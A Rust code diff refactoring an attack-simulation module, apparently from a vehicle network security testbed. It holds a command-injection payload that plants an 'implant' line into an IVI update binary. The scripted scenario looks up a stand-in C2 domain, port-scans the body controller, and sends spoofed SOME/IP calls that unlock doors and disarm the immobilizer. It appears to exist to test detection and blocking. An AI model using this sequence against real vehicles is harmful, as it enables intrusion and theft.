@@ -10,9 +10,7 @@ use someip_rs::transport::UdpClient;
 use someip_rs::{ClientId, MethodId, ServiceId, SomeIpMessage};
 use vsiem_topology::{AddressMode, Topology};
 
-use super::body::{
-    CLIMATE, DISARM, DOOR_LOCK, GET_STATE, IMMOBILIZER, LOCK, SET_TEMPERATURE, UNLOCK,
-};
+use super::body::{self, CLIMATE, DOOR_LOCK, IMMOBILIZER};
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 pub enum Scenario {
@@ -47,6 +45,53 @@ const REPLY_TIMEOUT: Duration = Duration::from_millis(500);
 /// stay around long enough to be an observable process.
 const PAYLOAD: &str = "x; echo implant >> opt/ivi/system/bin/ivi-update; sleep 3";
 
+/// A SOME/IP method call of the script.
+struct Call {
+    service: u16,
+    method: u16,
+    name: &'static str,
+    payload: &'static [u8],
+}
+
+const LOCK: Call = Call {
+    service: DOOR_LOCK,
+    method: body::LOCK,
+    name: "DoorLock.Lock",
+    payload: &[],
+};
+const UNLOCK: Call = Call {
+    service: DOOR_LOCK,
+    method: body::UNLOCK,
+    name: "DoorLock.Unlock",
+    payload: &[],
+};
+const GET_STATE: Call = Call {
+    service: IMMOBILIZER,
+    method: body::GET_STATE,
+    name: "Immobilizer.GetState",
+    payload: &[],
+};
+const DISARM: Call = Call {
+    service: IMMOBILIZER,
+    method: body::DISARM,
+    name: "Immobilizer.Disarm",
+    payload: &[],
+};
+/// 21.5 degC, at 0.1 degC per bit.
+const SET_TEMPERATURE: Call = Call {
+    service: CLIMATE,
+    method: body::SET_TEMPERATURE,
+    name: "Climate.SetTemperature",
+    payload: &[0x00, 0xd7],
+};
+
+/// Where a request comes from: an ECU's address and the SOME/IP client ID it uses.
+struct Caller<'a> {
+    ecu: &'a str,
+    ip: IpAddr,
+    client: u16,
+}
+
 impl Attacker<'_> {
     pub fn run(&self, scenario: Scenario, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
         match scenario {
@@ -56,40 +101,25 @@ impl Attacker<'_> {
     }
 
     fn reference(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
-        let ivi = self.address("ivi")?;
+        let ivi = self.caller("ivi")?;
+        let from = ivi.ip.to_string();
         out(step("exploit", "outside", self.exploit()));
         out(step(
             "dns c2.evil.example",
-            &ivi.to_string(),
-            self.dns_lookup(ivi, "c2.evil.example"),
+            &from,
+            self.dns_lookup(ivi.ip, "c2.evil.example"),
         ));
         out(step(
             "port scan body-dc",
-            &ivi.to_string(),
-            self.port_scan(ivi, "body-dc"),
+            &from,
+            self.port_scan(ivi.ip, "body-dc"),
         ));
-        out(self.call(
-            ivi,
-            0x0003,
-            "ivi",
-            DOOR_LOCK,
-            UNLOCK,
-            "DoorLock.Unlock",
-            &[],
-        ));
-        out(self.call(
-            ivi,
-            0x0003,
-            "ivi",
-            IMMOBILIZER,
-            DISARM,
-            "Immobilizer.Disarm",
-            &[],
-        ));
+        out(self.call(&ivi, &UNLOCK));
+        out(self.call(&ivi, &DISARM));
         // Keep trying a call the IVI is normally allowed to make, until the block stops it.
         let start = Instant::now();
         loop {
-            let attempt = self.call(ivi, 0x0003, "ivi", DOOR_LOCK, LOCK, "DoorLock.Lock", &[]);
+            let attempt = self.call(&ivi, &LOCK);
             let refused = attempt.outcome != "ok";
             out(attempt);
             if refused || start.elapsed() > self.persistence {
@@ -97,50 +127,32 @@ impl Attacker<'_> {
             }
             std::thread::sleep(Duration::from_millis(100));
         }
-        out(self.call(
-            ivi,
-            0x0003,
-            "ivi",
-            DOOR_LOCK,
-            UNLOCK,
-            "DoorLock.Unlock",
-            &[],
-        ));
+        out(self.call(&ivi, &UNLOCK));
         Ok(())
     }
 
     fn benign(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
-        let ivi = self.address("ivi")?;
-        let tcu = self.address("tcu")?;
-        out(self.call(ivi, 0x0003, "ivi", DOOR_LOCK, LOCK, "DoorLock.Lock", &[]));
-        out(self.call(
-            ivi,
-            0x0003,
-            "ivi",
-            CLIMATE,
-            SET_TEMPERATURE,
-            "Climate.SetTemperature",
-            &215i16.to_be_bytes(),
-        ));
-        out(self.call(
-            ivi,
-            0x0003,
-            "ivi",
-            IMMOBILIZER,
-            GET_STATE,
-            "Immobilizer.GetState",
-            &[],
-        ));
-        out(self.call(
-            tcu,
-            0x0002,
-            "tcu",
-            DOOR_LOCK,
-            UNLOCK,
-            "DoorLock.Unlock",
-            &[],
-        ));
+        let ivi = self.caller("ivi")?;
+        let tcu = self.caller("tcu")?;
+        out(self.call(&ivi, &LOCK));
+        out(self.call(&ivi, &SET_TEMPERATURE));
+        out(self.call(&ivi, &GET_STATE));
+        out(self.call(&tcu, &UNLOCK));
         Ok(())
+    }
+
+    /// An ECU as the topology declares it: its address and its own client ID.
+    fn caller<'a>(&self, ecu: &'a str) -> std::io::Result<Caller<'a>> {
+        let client = self
+            .topology
+            .ecu(ecu)
+            .and_then(|e| e.client_id)
+            .ok_or_else(|| std::io::Error::other(format!("{ecu} has no SOME/IP client ID")))?;
+        Ok(Caller {
+            ecu,
+            ip: self.address(ecu)?,
+            client,
+        })
     }
 
     fn address(&self, ecu: &str) -> std::io::Result<IpAddr> {
@@ -188,27 +200,20 @@ impl Attacker<'_> {
         attempt().unwrap_or_else(|e| format!("failed: {e}"))
     }
 
-    #[allow(clippy::too_many_arguments)] // One call of the script: who, as whom, what, with which payload.
-    fn call(
-        &self,
-        from: IpAddr,
-        client: u16,
-        as_ecu: &str,
-        service: u16,
-        method: u16,
-        name: &str,
-        payload: &[u8],
-    ) -> Step {
+    fn call(&self, from: &Caller<'_>, call: &Call) -> Step {
         let attempt = || -> Result<String, Box<dyn std::error::Error>> {
-            let provider = self.topology.service(service).ok_or("unknown service")?;
+            let provider = self
+                .topology
+                .service(call.service)
+                .ok_or("unknown service")?;
             let ip = self.address(&provider.provider)?;
-            let mut client_socket = UdpClient::bind((from, 0))?;
-            client_socket.set_client_id(ClientId(client));
-            client_socket.set_read_timeout(Some(REPLY_TIMEOUT))?;
-            let request = SomeIpMessage::request(ServiceId(service), MethodId(method))
-                .payload(payload.to_vec())
+            let mut socket = UdpClient::bind((from.ip, 0))?;
+            socket.set_client_id(ClientId(from.client));
+            socket.set_read_timeout(Some(REPLY_TIMEOUT))?;
+            let request = SomeIpMessage::request(ServiceId(call.service), MethodId(call.method))
+                .payload(call.payload)
                 .build();
-            let response = client_socket.call_to((ip, provider.port), request)?;
+            let response = socket.call_to((ip, provider.port), request)?;
             Ok(if response.is_ok() {
                 "ok".to_owned()
             } else {
@@ -216,7 +221,7 @@ impl Attacker<'_> {
             })
         };
         let outcome = attempt().unwrap_or_else(|e| format!("failed: {e}"));
-        step(&format!("someip {name}"), as_ecu, outcome)
+        step(&format!("someip {}", call.name), from.ecu, outcome)
     }
 }
 
